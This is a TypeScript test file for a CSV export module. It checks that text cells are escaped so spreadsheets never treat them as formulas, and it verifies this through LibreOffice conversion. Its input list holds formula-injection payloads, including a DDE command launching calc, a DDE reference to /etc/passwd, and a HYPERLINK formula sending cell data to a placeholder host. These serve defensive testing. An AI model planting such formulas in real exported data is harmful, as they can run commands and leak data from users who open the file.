// SPDX-License-Identifier: EUPL-1.2
import { parse } from 'csv-parse/sync'
import { spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvLine, csvStart, dataLine, textOfCell } from './csv.ts'

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"a")',
  '=HYPERLINK("https://elders.example?x="&A1;"klik")',
  '";=1+1;"',
  '",=1+1,"',
  "'=1+1",
  "''",
  '0012',
  '1e5',
  '1.00',
  '1/2',
  '12-3-2026',
  '24 november 2026',
  'nov 24',
  'maart 2026',
  'TRUE',
  'waar',
  '€ 4.200',
  '50%',
  '(1)',
  '',
]
const office = ['/usr/bin/soffice', '/usr/bin/localc'].find((path) => existsSync(path))
const shared = process.env.SHARED_DATA && join(process.env.SHARED_DATA, 'naughty-strings/blns.json')
const hasStrings = shared !== undefined && shared !== '' && existsSync(shared)

/** What a cell may lose: line ends become one kind, and what no spreadsheet holds becomes a sign that says so. */
const kept = (text: string) => withoutControls(text).replace(/\r\n?/g, '\n')
const withoutControls = (text: string) =>
  text
    .toWellFormed()
    // oxlint-disable-next-line no-control-regex
    .replace(/[\0-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]/g, '\ufffd')

const readBack = (file: string) => parse(file, { bom: true, relaxColumnCount: true })

describe('a CSV file', () => {
  it('gives every text back exactly, whatever it holds', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...formulas)), { minLength: 2 }),
        (texts) => {
          const [row] = readBack(csvStart + csvLine(texts))
          expect(row?.map(textOfCell)).toEqual(texts.map(kept))
        },
      ),
    )
  })

  it('never begins a text cell with anything that a spreadsheet would reckon with', () => {
    for (const text of formulas.filter(Boolean)) expect(csvLine([text]).replace(/^"/, ''), text).toMatch(/^'/)
  })

  it('leaves words, numbers and moments as they are', () => {
    const at = new Date('2026-11-24T15:05:00Z')
    expect(csvLine(['Ontvangen', 'augurk, zuur', -4_200.5, at, null])).toBe(
      'Ontvangen,"augurk, zuur",-4200.5,2026-11-24 16:05:00,\r\n',
    )
  })
})

// Under one name wherever it runs: only the soak installs LibreOffice, and the list of all tests is one.
describe.skipIf(!office || !hasStrings)('through LibreOffice', () => {
  for (const kind of ['ods', 'xlsx'] as const) {
    it(`no cell of ${kind} is a formula or a number, and every text comes back`, { timeout: 120_000 }, () => {
      const texts = [...formulas, ...(JSON.parse(readFileSync(shared ?? '', 'utf8')) as string[])]
      const folder = mkdtempSync(join(tmpdir(), 'dijkwacht-csv-'))
      try {
        const file = join(folder, 'naughty.csv')
        writeFileSync(file, csvStart + texts.map((text, index) => csvLine([`regel ${index}`, text, 'einde'])).join(''))
        convert(folder, file, kind)
        // Back to flat XML, so that we see what each cell became.
        convert(folder, join(folder, `naughty.${kind}`), 'fods')
        const xml = readFileSync(join(folder, 'naughty.fods'), 'utf8')
        const sheet = xml.slice(xml.indexOf('<office:spreadsheet>'))
        expect(sheet).not.toContain('table:formula')
        expect([...new Set([...sheet.matchAll(/office:value-type="(\w+)"/g)].map(([, type]) => type))]).toEqual([
          'string',
        ])
        const rows = rowsOf(sheet)
        expect(rows.length).toBe(texts.length)
        rows.forEach(([label = '', text = '', end = ''], index) => {
          expect([label, textOfCell(text), end]).toEqual([`regel ${index}`, kept(texts[index] ?? ''), 'einde'])
        })
      } finally {
        rmSync(folder, { recursive: true, force: true })
      }
    })
  }
})

function convert(folder: string, file: string, to: string): void {
  const profile = `-env:UserInstallation=file://${folder}/profile`
  const done = spawnSync(office ?? '', [profile, '--headless', '--convert-to', to, '--outdir', folder, file], {
    encoding: 'utf8',
  })
  if (done.status !== 0) throw new Error(`LibreOffice: ${done.stderr}`)
}

function rowsOf(sheet: string): string[][] {
  const rows = sheet.match(/<table:table-row[^>]*>[\s\S]*?<\/table:table-row>/g) ?? []
  return rows
    .map((row) => (row.match(/<table:table-cell[^>]*?(?:\/>|>[\s\S]*?<\/table:table-cell>)/g) ?? []).map(textOf))
    .filter((row) => row.some(Boolean))
}

const entities: Record<string, string> = { lt: '<', gt: '>', amp: '&', apos: "'", quot: '"' }

function textOf(cell: string): string {
  return (cell.match(/<text:p[^>]*?(?:\/>|>[\s\S]*?<\/text:p>)/g) ?? [])
    .map((paragraph) =>
      paragraph
        .replace(/<text:s text:c="(\d+)"\/>/g, (_, count) => ' '.repeat(Number(count)))
        .replace(/<text:s\/>/g, ' ')
        .replace(/<text:tab\/>/g, '\t')
        .replace(/<text:line-break\/>/g, '\n')
        .replace(/<[^>]+>/g, '')
        .replace(/&(?:#(x?)([\da-f]+)|(\w+));/gi, (_, hex, code, name) =>
          name ? (entities[name] ?? '') : String.fromCodePoint(Number.parseInt(code, hex ? 16 : 10)),
        ),
    )
    .join('\n')
}

describe('a line for programs', () => {
  it('is read back as it was written, but for an apostrophe before a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...formulas)), { minLength: 2 }),
        (texts) => {
          const [row] = parse(dataLine(texts))
          for (const [at, text] of (row ?? []).entries()) {
            const same = withoutControls(texts[at] ?? '')
            expect([same, `'${same}`]).toContain(text)
            expect(text).not.toMatch(/^\s*[=+\-@]/)
          }
        },
      ),
    )
  })

  it('leaves days, codes and numbers as they are', () => {
    expect(dataLine(['2026-11-24', '0012', '*', 'jan 1', 12.5, null])).toBe('2026-11-24,0012,*,jan 1,12.5,\r\n')
  })
})
